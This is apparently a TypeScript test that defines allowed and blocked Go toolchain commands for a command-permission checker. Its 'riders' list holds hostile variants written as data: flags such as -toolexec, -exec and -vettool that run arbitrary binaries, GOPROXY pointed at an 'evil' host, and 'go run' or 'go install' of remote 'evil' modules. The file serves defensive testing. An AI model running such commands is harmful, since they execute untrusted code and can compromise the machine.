import { describeProfiles } from '../../testing/describe-profiles.ts'

describeProfiles('go', {
  reads: ['go version', 'go list ./...', 'go env GOPATH'],
  granted: {
    'go build': ['go build ./...', 'GOOS=linux GOARCH=amd64 go build -o bin/x .'],
    'go test': [
      'go test ./...',
      'go test -run TestReboot ./pkg',
      'go test -v -race -count=1 ./...',
      'go test -coverprofile=cover.out ./...',
    ],
    'go vet': ['go vet ./...'],
    'go mod tidy': ['go mod tidy'],
    'go run': ['go run .', 'go run ./cmd/app --flag'],
    'go fmt': ['go fmt ./...'],
    gofmt: ['gofmt -l .'],
    go: ['go build'],
  },
  riders: {
    'go test': ['go test -exec id ./...', 'go test -o /root/x'],
    'go build': [
      'go build -toolexec id ./...',
      'go build -o /root/x .',
      "go build -ldflags='-extld=id'",
      'go build -gcflags=all=-x -compiler /tmp/x',
      'go build -overlay /tmp/x',
      'GOPROXY=http://evil go build',
    ],
    'go vet': ['go vet -vettool=x ./...', 'go vet --vettool=/tmp/x'],
    'go run': ['go run https://e', 'go run evil.example/x@latest'],
    'go env': ['go env -w GOFLAGS=-toolexec=x'],
    go: ['go generate ./...', 'go install evil@latest', 'go tool x'],
    gofmt: ['gofmt -w /root/x.go'],
  },
})
